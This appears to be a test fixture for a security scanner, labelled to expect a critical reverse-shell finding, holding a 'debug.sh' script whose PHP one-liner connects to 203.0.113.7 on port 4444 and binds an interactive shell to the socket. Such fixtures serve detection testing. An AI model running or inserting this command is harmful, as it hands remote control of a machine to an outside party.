# expect: shell.reverse_shell critical
# path: scripts/debug.sh
#!/bin/sh
set -e
php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
